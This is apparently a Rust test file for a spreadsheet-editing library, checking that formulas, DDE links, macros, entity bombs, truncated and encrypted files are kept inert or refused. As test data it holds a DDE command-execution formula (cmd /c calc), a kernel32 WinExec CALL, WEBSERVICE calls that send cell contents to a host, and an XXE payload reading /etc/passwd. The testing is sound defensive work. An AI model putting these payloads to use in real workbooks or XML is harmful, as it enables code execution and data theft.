//! Files that would reach out of the workbook or run something: formulas, links, macros; and files that are no whole
//! workbook. Nothing is fetched, sent, opened or run, and all of it is still there after an edit.

use super::cases::outcome;
use super::support::*;
use crate::{Axis, Edit, Input, Limits, OpenError, Refused, Workbook};

#[test]
fn formulas_that_fetch_or_start_programs_are_text_and_stay() {
    let reaching = [
        "WEBSERVICE(&quot;http://x/?&quot;&amp;A1)",
        "cmd|'/c calc'!A0",
        "[1]Sheet1!$A$1",
        "RTD(&quot;prog&quot;,,&quot;x&quot;)",
        "CALL(&quot;kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;,&quot;x&quot;,1)",
        "_xlfn.IMAGE(&quot;http://x/y.png&quot;)",
        "HYPERLINK(&quot;http://x/&quot;&amp;A1,&quot;click&quot;)",
    ];
    let cells: String = reaching
        .iter()
        .enumerate()
        .map(|(n, text)| format!("<row r=\"{0}\"><c r=\"B{0}\"><f>{text}</f><v>7</v></c></row>", n + 1))
        .collect();
    let link = "<externalLink xmlns=\"x\"><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>";
    let parts = Parts::rows(&cells)
        .with("xl/externalLinks/externalLink1.xml", link)
        .replace("xl/_rels/workbook.xml.rels", "</Relationships>", "<Relationship Id=\"rId9\" Type=\"http://x/externalLink\" Target=\"externalLinks/externalLink1.xml\"/></Relationships>");
    let (book, done) = parts.after(set(&[("A20", Input::Number(1.0))]));
    for (n, text) in reaching.iter().enumerate() {
        let cell = book.cell("Data", format!("B{}", n + 1).parse().unwrap()).unwrap();
        let plain = text.replace("&quot;", "\"").replace("&amp;", "&");
        assert_eq!((cell.formula.as_deref(), &cell.value), (Some(&*plain), &crate::Value::Number(7.0)));
        assert!(part(&book, "xl/worksheets/sheet1.xml").contains(&format!("<f>{text}</f><v>7</v>")));
    }
    assert!(!done.parts.contains("xl/externalLinks/externalLink1.xml"));
    parts.after(Edit::Insert { sheet: "Data".to_owned(), axis: Axis::Rows, at: 3, count: 1 });
    let mut said = String::new();
    for text in [
        "=WEBSERVICE(\"http://x\")",
        "=cmd|'/c calc'!A0",
        "=[1]Sheet1!A1",
        "=RTD(\"a\",,\"b\")",
        "=CALL(\"k\",\"W\",\"J\")",
    ] {
        let refused = parts.refused(set(&[("A1", formula(text))]));
        assert!(
            matches!(refused, Refused::ReachesOut { .. } | Refused::BadFormula { .. }),
            "{text}: {refused}"
        );
        said = refused.to_string();
    }
    outcome("WEBSERVICE, DDE and external links", format!("text that stays as it is; a new one: {said}"));
}

#[test]
fn macros_are_kept_and_never_looked_at() {
    let project = "\u{1}not a project: \u{0}whoever reads it fails";
    let parts = Parts::rows("<row r=\"1\"><c r=\"A1\"><v>1</v></c></row>")
        .with("xl/vbaProject.bin", project)
        .replace("[Content_Types].xml", "vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", "vnd.ms-excel.sheet.macroEnabled.main+xml")
        .replace("xl/_rels/workbook.xml.rels", "</Relationships>", "<Relationship Id=\"rId9\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/></Relationships>");
    for edit in [
        set(&[("A1", Input::Number(2.0))]),
        Edit::Insert { sheet: "Data".to_owned(), axis: Axis::Rows, at: 1, count: 1 },
        Edit::RenameSheet { sheet: "Data".to_owned(), to: "Other".to_owned() },
    ] {
        let (book, done) = parts.after(edit);
        assert_eq!(part(&book, "xl/vbaProject.bin"), project);
        assert!(!done.parts.contains("xl/vbaProject.bin"));
        let kind = book.package().content_type("xl/workbook.xml").unwrap().unwrap();
        assert!(kind.contains("macroEnabled"));
    }
    outcome("macros", "kept byte by byte, never run");
}

#[test]
fn files_cut_off_anywhere_are_refused() {
    let whole = Parts::rows("<row r=\"1\"><c r=\"A1\"><v>1</v></c></row>").bytes();
    let mut said = String::new();
    for length in 0..whole.len() {
        let error = Workbook::open(&whole[..length], Limits::default()).unwrap_err();
        assert!(matches!(error, OpenError::NotAPackage(_)), "{length}: {error}");
        said = error.to_string();
    }
    outcome("truncated files", said);
}

#[test]
fn damaged_bytes_are_told_and_never_a_panic() {
    let whole = Parts::rows("<row r=\"1\"><c r=\"A1\"><v>1</v></c></row>").bytes();
    let (mut refused, mut fine) = (0, 0);
    for at in 0..whole.len() {
        let mut bytes = whole.clone();
        bytes[at] ^= 0x55;
        let edited = Workbook::open(&bytes, Limits::default()).map_err(Refused::from);
        match edited.and_then(|mut book| book.apply(&[set(&[("A1", Input::Number(2.0))])])) {
            // What nobody looked at is copied as it was, damage and all.
            Ok(_) => fine += 1,
            Err(_) => refused += 1,
        }
    }
    assert!(refused > fine / 4, "{refused} refused, {fine} edited");
    outcome("one byte damaged, each in turn", format!("{refused} refused, {fine} edited beside the damage"));
}

#[test]
fn protected_files_are_said_to_be() {
    let error = Workbook::open(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 the rest", Limits::default()).unwrap_err();
    assert!(error.to_string().contains("password"), "{error}");
    assert!(Refused::from(error.clone()).instead().contains("without a password"));
    outcome("encrypted workbooks", error);
}

#[test]
fn entity_bombs_are_refused_in_every_part() {
    let bomb = "<!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c SYSTEM \"file:///etc/passwd\">]>";
    let parts = Parts::rows("<row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c></row>")
        .with("xl/sharedStrings.xml", "<sst><si><t>x</t></si></sst>")
        .replace("xl/_rels/workbook.xml.rels", "</Relationships>", "<Relationship Id=\"rId8\" Type=\"http://x/sharedStrings\" Target=\"sharedStrings.xml\"/></Relationships>");
    let mut said = String::new();
    for (name, text) in parts.0.clone() {
        let at = text.find("?>").map_or(0, |at| at + 2);
        let evil = parts.clone().with(&name, format!("{}{bomb}{}", &text[..at], &text[at..]));
        let opened = Workbook::open(&evil.bytes(), Limits::default()).map_err(Refused::from);
        let look = crate::CellFormat { bold: Some(true), ..Default::default() };
        let edits = [
            set(&[("A1", text_input())]),
            Edit::AddSheet { name: "New".to_owned(), at: None },
            Edit::Format { sheet: "Data".to_owned(), area: "A1".parse().unwrap(), format: look },
        ];
        let error = opened.and_then(|mut book| book.apply(&edits)).unwrap_err();
        assert!(matches!(error, Refused::Unreadable(OpenError::Doctype(_))), "{name}: {error}");
        said = error.to_string();
    }
    outcome("XML entity bombs", said);
}

fn text_input() -> Input {
    text("x")
}
